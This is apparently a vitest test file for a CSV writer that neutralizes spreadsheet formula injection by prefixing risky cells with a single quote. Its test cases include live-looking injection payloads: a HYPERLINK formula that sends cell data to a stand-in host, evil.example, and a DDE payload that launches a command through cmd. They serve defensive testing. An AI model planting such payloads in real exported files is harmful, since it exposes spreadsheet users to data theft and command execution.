import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createCsvWriter } from './csv.ts';

/** The cells of one column, written as one row each, as csv-parse reads them back. */
async function writeCells(cells: unknown[]): Promise<string[]> {
  const csv = await text(Readable.from(cells.map((cell) => ({ cell }))).pipe(createCsvWriter(['cell'])));
  const [header, ...rows] = parse(csv);
  expect(header).toEqual(['cell']);
  return rows.map((row) => row[0] ?? '');
}

/** One cell written: its raw text in the CSV (the header row and the last line break cut off), and as read back. */
async function writeCell(cell: unknown): Promise<{ raw: string; read: string }> {
  const csv = await text(Readable.from([{ cell }]).pipe(createCsvWriter(['cell'])));
  const records = parse(csv);
  expect(records).toHaveLength(2);
  return { raw: csv.slice('cell\n'.length, -1), read: records[1]![0]! };
}

describe('createCsvWriter: cells a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', 'equals', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['=1+1', 'equals', `"'=1+1"`],
    ['+1+1', 'plus', `"'+1+1"`],
    ['+12', 'plus before a number', `"'+12"`],
    ['-1+1', 'minus', `"'-1+1"`],
    ["-2+3+cmd|' /C calc'!A0", 'minus, the DDE payload', `"'-2+3+cmd|' /C calc'!A0"`],
    ['-', 'a lone minus', `"'-"`],
    ['-12.50abc', 'minus before a number and more', `"'-12.50abc"`],
    ['-1e5', 'minus before an exponent', `"'-1e5"`],
    ['@SUM(A1:A2)', 'at', `"'@SUM(A1:A2)"`],
    ['\t=1+1', 'tab', `"'\t=1+1"`],
    ['\r=1+1', 'carriage return', `"'\r=1+1"`],
    ['\n=1+1', 'line feed', `"'\n=1+1"`],
    ['\uFF1D1+1', 'full-width equals', `"'\uFF1D1+1"`],
    ['\uFF0B1+1', 'full-width plus', `"'\uFF0B1+1"`],
    ['\uFF0D1+1', 'full-width minus', `"'\uFF0D1+1"`],
    ['\uFF20SUM(A1)', 'full-width at', `"'\uFF20SUM(A1)"`],
  ])('when a cell is %j (%s), then it is written quoted after a single quote', async (cell, _why, raw) => {
    const written = await writeCell(cell);
    expect(written.raw).toBe(raw);
    expect(written.read).toBe(`'${cell}`);
  });
});

describe('createCsvWriter: formulas after what a spreadsheet skips', () => {
  // Characters an importer may trim before it looks for a formula: every Unicode space, format and control
  // character; each is tried before each formula start.
  const skipped: [string, string][] = [
    [' ', 'space'],
    ['   ', 'three spaces'],
    ['\t', 'tab'],
    ['\r', 'carriage return'],
    ['\n', 'line feed'],
    ['\v', 'vertical tab'],
    ['\f', 'form feed'],
    ['\u00A0', 'no-break space'],
    ['\u1680', 'ogham space mark'],
    ['\u2000', 'en quad'],
    ['\u2001', 'em quad'],
    ['\u2002', 'en space'],
    ['\u2003', 'em space'],
    ['\u2004', 'three-per-em space'],
    ['\u2005', 'four-per-em space'],
    ['\u2006', 'six-per-em space'],
    ['\u2007', 'figure space'],
    ['\u2008', 'punctuation space'],
    ['\u2009', 'thin space'],
    ['\u200A', 'hair space'],
    ['\u200B', 'zero-width space'],
    ['\u200C', 'zero-width non-joiner'],
    ['\u200D', 'zero-width joiner'],
    ['\u200E', 'left-to-right mark'],
    ['\u202E', 'right-to-left override'],
    ['\u2028', 'line separator'],
    ['\u2029', 'paragraph separator'],
    ['\u202F', 'narrow no-break space'],
    ['\u205F', 'medium mathematical space'],
    ['\u2060', 'word joiner'],
    ['\u3000', 'ideographic space'],
    ['\uFEFF', 'byte order mark'],
    ['\u0000', 'NUL'],
    [' \u00A0\u3000\uFEFF\t', 'several kinds in a row'],
  ];
  const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '\uFF1D1+1', '\uFF0B1+1', '\uFF0D1+1', '\uFF20SUM(A1)'];
  const cases = skipped.flatMap(([prefix, why]) => formulas.map((formula) => [`${prefix}${formula}`, why] as const));

  it.each(cases)('when a cell is %j (a formula after %s), then it is written quoted after a single quote', async (cell) => {
    const written = await writeCell(cell);
    expect(written.raw).toBe(`"'${cell.replaceAll('"', '""')}"`);
    expect(written.read).toBe(`'${cell}`);
  });

  it.each([
    [' -12.50', 'a space before a negative number'],
    ['\u00A0-12', 'a no-break space before a negative whole number'],
    [' a=1+1', 'a space before text'],
    ['\u00A0Dana', 'a no-break space before a name'],
    ['\u3000', 'only an ideographic space'],
    ['   ', 'only spaces'],
    ['x =1+1', 'a formula after a letter and a space'],
  ])('when a cell is %j (%s), then it is written as it is', async (cell) => {
    expect((await writeCell(cell)).read).toBe(cell);
  });
});

describe('createCsvWriter: harmless cells', () => {
  it.each([
    ['Dana', 'a name', 'Dana'],
    ['O"Brien, Jr.', 'quotes and a comma (quoted as RFC 4180 requires)', '"O""Brien, Jr."'],
    ["'=1+1", 'already starting with a single quote', "'=1+1"],
    ['a=1+1', 'equals not first', 'a=1+1'],
    ['line\nbreak', 'a line break not first (quoted)', '"line\nbreak"'],
    ['', 'empty', ''],
    ['-12.50', 'a negative decimal number', '-12.50'],
    ['-12', 'a negative whole number', '-12'],
    ['12.50', 'a decimal number', '12.50'],
    ['2026-03-01', 'a date', '2026-03-01'],
  ])('when a cell is %j (%s), then it is written as it is', async (cell, _why, raw) => {
    const written = await writeCell(cell);
    expect(written.raw).toBe(raw);
    expect(written.read).toBe(cell);
  });

  it.each([
    [-12.5, 'a negative number', '-12.5'],
    [0, 'zero', '0'],
    [-Infinity, 'minus infinity', `"'-Infinity"`],
    [BigInt(-7), 'a negative bigint', '-7'],
    [{ note: '=1+1' }, 'an object, as JSON', '"{""note"":""=1+1""}"'],
    [null, 'null', ''],
  ])('when a cell is the value %s (%s), then it is written as %j', async (cell, _why, raw) => {
    expect((await writeCell(cell)).raw).toBe(raw);
  });

  it('when a column name starts with a formula character, then the header cell is neutralized too', async () => {
    const csv = await text(Readable.from([{ '=total': 1 }]).pipe(createCsvWriter(['=total'])));
    expect(csv).toBe(`"'=total"\n1\n`);
  });

  it('when many rows are written, then each keeps its own cell, read back by csv-parse', async () => {
    const cells = ['=1', 'plain', '-3.25', '@x', '\tx'];
    expect(await writeCells(cells)).toEqual(["'=1", 'plain', '-3.25', "'@x", "'\tx"]);
  });
});
